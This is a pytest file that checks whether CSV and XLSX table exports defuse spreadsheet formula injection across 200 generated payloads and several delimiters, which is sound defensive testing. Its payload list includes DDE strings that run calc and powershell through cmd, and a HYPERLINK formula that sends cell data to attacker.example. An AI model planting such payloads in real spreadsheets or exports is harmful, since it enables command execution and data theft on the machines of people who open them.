"""Two hundred payloads: no table that is given away has a spreadsheet run one of them, whatever delimits."""

import csv
import io
import re
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import pytest

from core.errors import Fault
from data.formats.fields.written import table_csv, write_tables_xlsx
from data.formats.tables.fault_list import faults_csv

BEFORE = ("", " ", "\t", "\n", "\r\n", "a;", "a\t", "a|", "a\n", "1;\n ")
SIGNS = ("=", "+", "-", "@", "＝")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://attacker.example/?q="&A1;"open")',
    "1+1;b",
    "SUM(1+9)*cmd|' /C powershell'!A0",
)
PAYLOADS = tuple("".join(parts) for parts in product(BEFORE, SIGNS, CALLS))
RUNS = re.compile(r"\s*[=+\-@＝＋－＠]")


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_of_csv_is_run_however_it_is_opened(delimiter: str) -> None:
    faults = (Fault(where=each, field=each, value=each, expected=each) for each in PAYLOADS)
    tables = (table_csv(PAYLOADS[:1], ([each, "x", 1] for each in PAYLOADS)), faults_csv(faults))
    for text in tables:
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        assert [cell for row in rows for cell in row if RUNS.match(cell)] == []


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
    file = tmp_path / "table.xlsx"
    write_tables_xlsx(file, [("table", ["text"], ([each] for each in PAYLOADS))], PAYLOADS)
    with ZipFile(file) as archive:
        sheets = [name for name in archive.namelist() if "/worksheets/" in name]
        text = "".join(archive.read(name).decode() for name in sheets)
    assert len(sheets) == 2
    assert "<f>" not in text
    assert "<hyperlink" not in text
